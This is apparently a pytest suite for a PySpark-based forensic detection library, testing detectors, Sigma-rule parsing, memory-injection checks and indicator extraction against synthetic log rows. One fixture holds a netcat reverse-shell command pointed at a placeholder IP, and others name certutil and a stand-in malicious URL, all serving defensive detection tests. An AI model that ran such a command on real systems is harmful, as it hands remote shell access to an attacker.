from datetime import datetime

import pytest

from casewright.detect.detectors import BY_ID, DETECTORS, run_detectors
from casewright.detect.findings import FINDING, multi_source, replace_family
from casewright.detect.indicators import classify, extract_from, import_list
from casewright.detect.patterns import PatternRule, scan
from casewright.detect.sigma import find_source, parse_condition, parse_rule, run_rule, run_rules
from casewright.schema import TABLES, VIEWS, Case
from pyspark.sql import functions as F

D = datetime(2024, 1, 1)
OLD = datetime(1999, 1, 1)


def frame(spark, table, rows):
    names = [c.split(" ")[0] for c in TABLES[table].split(", ")]
    return spark.createDataFrame([tuple(r.get(n) for n in names) for r in rows], TABLES[table])


def values(df):
    return sorted(r["value"] for r in df.collect())


FIRES = {
    "brute_force": ("auth_events", [{"event_id": 4625, "src_ip": "203.0.113.9", "timestamp": D}] * 5 + [{"event_id": 4625, "src_ip": "198.51.100.1", "timestamp": D}] * 4 + [{"event_id": 4625, "src_ip": "127.0.0.1", "timestamp": D}] * 5 + [{"event_id": 4625, "src_ip": "192.0.2.1", "timestamp": OLD}] * 5, ["203.0.113.9"]),
    "pass_the_hash": ("auth_events", [{"event_id": 4648, "user": u, "domain": "CORP", "timestamp": D} for u in ["alice"] * 10 + ["DWM-1"] * 10 + ["HOST$"] * 10], ["alice@CORP"]),
    "anon_smb_cluster": ("auth_events", [{"logon_type": 3, "src_ip": "10.0.0.1", "timestamp": D}] * 3 + [{"logon_type": 3, "src_ip": "10.0.0.2", "timestamp": D}] * 2, ["10.0.0.1"]),
    "log_cleared": ("evtx_events", [{"event_id": 1102, "timestamp": D}, {"event_id": 1102, "timestamp": datetime(1, 1, 1)}, {"event_id": 7, "timestamp": D}], ["1102"]),
    "event_log_gap": ("evtx_events", [{"channel": "X", "timestamp": datetime(2024, 1, 1)}, {"channel": "X", "timestamp": datetime(2024, 1, 9)}, {"channel": "Y", "timestamp": datetime(2024, 1, 1)}, {"channel": "Y", "timestamp": datetime(2024, 1, 8)}], ["log_gap:X"]),
    "exe_user_docs": ("mft", [{"path": "Users/x/Downloads/a.exe", "is_dir": False, "modified": D}, {"path": "Users/x/Downloads/d.exe", "is_dir": True, "modified": D}, {"path": "Windows/a.exe", "is_dir": False, "modified": D}], ["Users/x/Downloads/a.exe"]),
    "usnjrnl_mass_delete": ("usnjrnl", [{"reason": "FILE_DELETE|CLOSE", "timestamp": D}] * 100, ["mass_file_deletion"]),
    "sysmon_dns_suspicious": ("sysmon_dns", [{"query_name": "a" * 20 + ".com", "image": "x.exe", "timestamp": D}, {"query_name": "a" * 19 + ".com", "image": "x.exe", "timestamp": D}], ["a" * 20 + ".com"]),
    "proc_create_lolbin": ("proc_creation", [{"image": "C:\\Windows\\System32\\CertUtil.exe", "timestamp": D}, {"image": "certutil.exe", "timestamp": D}, {"image": "notepad.exe", "timestamp": D}], ["C:\\Windows\\System32\\CertUtil.exe", "certutil.exe"]),
    "shell_reverse_shell": ("shell_history", [{"command": "nc 1.2.3.4 99 -e /bin/sh"}, {"command": "ls -e"}], ["nc 1.2.3.4 99 -e /bin/sh"]),
    "userassist_suspicious_path": ("userassist", [{"path": "C:\\Users\\Public\\x.exe"}, {"path": "C:\\Windows\\x.exe"}], ["C:\\Users\\Public\\x.exe"]),
}


@pytest.mark.parametrize("ident", sorted(FIRES))
def test_detector(spark, ident):
    table, rows, want = FIRES[ident]
    case = Case(spark, None, {table: frame(spark, table, rows)})
    out = BY_ID[ident].run(case)
    assert values(out) == sorted(want)
    assert [f"{f.name}" for f in out.schema] == [c.split(" ")[0] for c in FINDING.split(", ")]


def test_memory_detectors(spark):
    ps = [{"pid": 400, "ppid": 1, "name": "services.exe", "create_time": D}, {"pid": 500, "ppid": 400, "name": "svchost.exe", "create_time": D}, {"pid": 600, "ppid": 700, "name": "svchost.exe", "create_time": D}, {"pid": 700, "ppid": 1, "name": "explorer.exe", "create_time": D}]
    scan_rows = [{"pid": 900, "name": "evil.exe"}, {"pid": 901, "name": "gone.exe", "exit_time": D}, {"pid": 902, "name": "old.exe", "stale_pool": True}, {"pid": 3, "name": "abc"}, {"pid": 903, "name": "ab"}, {"pid": 400, "name": "services.exe"}]
    mal = [{"pid": 1, "name": "lsass.exe", "address": "0x1"}, {"pid": 2, "name": "chrome.exe", "address": "0x2"}]
    case = Case(spark, None, {"mem_pslist": frame(spark, "mem_pslist", ps), "mem_psscan": frame(spark, "mem_psscan", scan_rows), "mem_malfind": frame(spark, "mem_malfind", mal), "mem_netscan": frame(spark, "mem_netscan", [{"pid": 1}, {"pid": 2}])})
    assert values(BY_ID["suspicious_ppid"].run(case)) == ["svchost.exe (PID 600) parent=explorer.exe"]
    assert values(BY_ID["hidden_process"].run(case)) == ["evil.exe (PID 900)"]
    assert values(BY_ID["network_injection"].run(case)) == ["lsass.exe (PID 1)"]
    assert {r["value"]: r["confidence"] for r in BY_ID["malfind_injection"].run(case).collect()} == {"lsass.exe (PID 1) @ 0x1": "HIGH", "chrome.exe (PID 2) @ 0x2": "LOW"}


def test_empty_case(spark):
    case = Case(spark)
    assert len(DETECTORS) == 88 and len({d.ident for d in DETECTORS}) == 88
    assert all(not d.run(case).schema["value"].name == "" for d in DETECTORS)
    assert run_detectors(case, ["brute_force", "event_log_gap", "hollow_process"]).count() == 0
    assert all(v(case).count() == 0 for v in VIEWS.values())


def test_families_and_sources(spark):
    known = spark.createDataFrame([("a", "v", "detect:x", "HIGH", None, None, ""), ("a", "V", "sigma:y", "MED", None, None, "")], FINDING)
    new = spark.createDataFrame([("a", "w", "detect:z", "LOW", None, None, "")], FINDING)
    assert sorted(r["source"] for r in replace_family(known, "detect", new).collect()) == ["detect:z", "sigma:y"]
    r = multi_source(known).collect()
    assert len(r) == 1 and r[0]["worst"] == "HIGH" and r[0]["sources"] == "detect:x + sigma:y"


def rule(detection, category="process_creation", **kw):
    return parse_rule({"title": "t", "logsource": {"category": category}, "detection": detection, **kw})


def test_rules(spark):
    rows = [{"image": "C:\\x\\cmd.exe", "cmdline": "cmd -enc A*B"}, {"image": "C:\\x\\calc.exe", "cmdline": "/enc b"}, {"image": None, "cmdline": None}]
    case = Case(spark, None, {"proc_creation": frame(spark, "proc_creation", rows)})

    def n(detection, **kw):
        return run_rule(case, rule(detection), **kw).count()

    assert n({"s": {"Image|endswith": "\\CMD.exe"}, "condition": "s"}) == 1
    assert n({"s": {"Image|endswith": "\\CMD.exe"}, "condition": "s"}, case_sensitive=True) == 0
    assert n({"s": {"CommandLine|contains|windash": "-enc"}, "condition": "s"}) == 2
    assert n({"s": {"CommandLine": None}, "condition": "s"}) == 1
    assert n({"s": {"CommandLine|contains|all": ["cmd", "enc"]}, "condition": "s"}) == 1
    assert n({"s": [{"Image|contains": "cmd"}, {"Image|contains": "calc"}], "condition": "s"}) == 2
    assert n({"s": {"Image": "*\\c?lc.exe"}, "condition": "s"}) == 1
    assert n({"s": {"CommandLine|re": "enc [a-z]$"}, "condition": "s"}) == 1
    assert n({"a": {"Image|contains": "cmd"}, "b": {"Image|contains": "calc"}, "f": {"CommandLine|contains": "b"}, "condition": "(1 of a*) or b and not f"}) == 1
    assert n({"s": {"Nope": 1}, "condition": "s"}) == 3 and n({"s": {"Nope": 1}, "condition": "s"}, strict=True) == 0
    assert n({"a1": {"Image|contains": "c"}, "a2": {"CommandLine|contains": "cmd"}, "condition": "all of a*"}) == 1
    _, errors = run_rules(case, [rule({"s": {}, "condition": "s and ("})])
    assert errors
    assert rule({"condition": "s"}, level="critical", tags=["attack.t1059.001"]).technique == "T1059.001"
    with pytest.raises(ValueError):
        parse_rule({"title": "x", "logsource": "process_creation", "detection": {"condition": "s"}})
    with pytest.raises(LookupError):
        find_source({"category": "nothing"})
    assert parse_condition("not a and b or c")[0] == "or"


def test_patterns_are_literal(spark):
    rows = [{"script_text": "read README_FOR_X now", "timestamp": D}, {"script_text": "READMEaFOR", "timestamp": D}, {"script_text": None}]
    case = Case(spark, None, {"ps_scriptblock": frame(spark, "ps_scriptblock", rows)})
    assert scan(case, [PatternRule("p", ("README_FOR", "a\\b"), targets=("scriptblock",))]).count() == 1
    assert scan(case, [PatternRule("p", ("/README.FOR/",), targets=("scriptblock",))]).count() == 2
    assert scan(case, [PatternRule("p", ("read", "now"), "all")]).count() == 1


def test_indicators(spark):
    text = "see http://evil.example.com/a. hash " + "a" * 64 + " from 8.8.8.8 or 10.0.0.1, key HKLM\\Software\\Run and C:\\Users\\u\\AppData\\x.exe; bad-site.ru www.microsoft.com é1.2.3.4é"
    df = spark.createDataFrame([(text,), (text,), (None,), ("",), ("abc",)], "t string")
    got = {(r["type"], r["value"]): r["count"] for r in extract_from([("x.t", df, "t")]).collect()}
    assert got[("url", "http://evil.example.com/a")] == 2 and got[("sha256", "a" * 64)] == 2 and got[("ip", "8.8.8.8")] == 2
    assert ("ip", "10.0.0.1") not in got and ("domain", "www.microsoft.com") not in got and ("domain", "bad-site.ru") in got
    assert got[("path", "C:\\Users\\u\\AppData\\x.exe")] == 2 and ("regkey", "HKLM\\Software\\Run") in got and ("md5", "a" * 32) not in got
    lines = spark.createDataFrame([(v,) for v in ("# c", "", "a" * 32, "a" * 40, "1.2.3.4", "1.2.3.999", "a\\b", "x.com", "X.COM", "word")], "value string")
    kinds = {r[0]: r[1] for r in lines.select("value", classify(F.col("value"))).collect()}
    assert kinds["a" * 32] == "md5" and kinds["1.2.3.4"] == "ip" and kinds["1.2.3.999"] == "domain" and kinds["a\\b"] == "path" and kinds["word"] == "indicator"
    known = spark.createDataFrame([("WORD", "l"), ("x.com", "other")], "value string, source string")
    assert sorted(r["value"].lower() for r in import_list(known, lines, "l").collect()) == sorted(["a" * 32, "a" * 40, "1.2.3.4", "1.2.3.999", "a\\b", "x.com"])


def test_missing_and_unreadable_tables(spark, tmp_path):
    spark.createDataFrame([("a", True)], "path string, is_dir boolean").write.parquet(f"{tmp_path}/mft.parquet")
    for folder in (str(tmp_path), f"file://{tmp_path}"):
        case = Case(spark, folder)
        assert case.has("mft") and case.has_rows("mft") and not case.has("amcache") and not case.has_rows("amcache")
        assert run_detectors(case, ["amcache_ghost", "exe_user_docs"]).count() == 0


def test_one_failing_detector_is_recorded(spark):
    bad = spark.createDataFrame([([1], "Incoming")], "anydesk_id array<int>, direction string")
    case = Case(spark, tables={"anydesk_sessions": bad, "services": spark.createDataFrame([("router", "R", "b", "auto")], "name string, display_name string, binary_path string, start_type string")})
    errors = {}
    found = run_detectors(case, ["anydesk_incoming_session", "anomalous_routing_svc"], errors).collect()
    assert [r["value"] for r in found] == ["router [R]"] and list(errors) == ["anydesk_incoming_session"]


def test_ranges_of_both_kinds(spark):
    from casewright.detect.sigma import _in_cidr

    rows = [("10.1.2.3",), ("11.0.0.1",), ("fd12:3456::1",), ("FD00::",), ("fe80::1",), ("2001:db8:8000::7",), ("2001:db8:7fff::7",), ("::1",), ("::",), ("no address",), (None,), ("1:2:3:4:5:6:7:8",), ("10.1.2.999.1",)]
    df = spark.createDataFrame(rows, "a string")

    def inside(net):
        return {r["a"] for r in df.filter(_in_cidr(F.col("a"), net)).collect()}

    assert inside("10.0.0.0/8") == {"10.1.2.3"} and inside("fd00::/8") == {"fd12:3456::1", "FD00::"} and inside("2001:db8:8000::/33") == {"2001:db8:8000::7"}
    assert inside("::1/128") == {"::1"} and inside("1:2:3:4::/62") == {"1:2:3:4:5:6:7:8"} and inside("::/127") == {"::", "::1"} and inside("fe80::/10") == {"fe80::1"}


def test_bundled_rules_cover_every_source_and_share_scans(spark):
    from casewright.detect.patterns import bundled_patterns
    from casewright.detect.sigma import SOURCES, bundled_rules

    rules = bundled_rules()
    assert {find_source(r.logsource)[0] for r in rules} == set(SOURCES) and len(bundled_patterns()) == 6
    case = Case(spark, tables={"evtx_events": spark.createDataFrame([(4719, "m", datetime(2024, 1, 1))], "event_id int, message string, timestamp timestamp")})
    nowhere = parse_rule({"title": "nowhere", "logsource": {"category": "moon"}, "detection": {"a": {"x": 1}, "condition": "a"}})
    found, errors = run_rules(case, [*[r for r in rules if r.logsource.get("service") in ("security", "system", "application", "sysmon")], nowhere])
    assert list(errors) == ["nowhere"] and [r["value"] for r in found.collect()] == ["4719: m"]
    assert found._jdf.queryExecution().optimizedPlan().toString().count("LogicalRDD") == 1
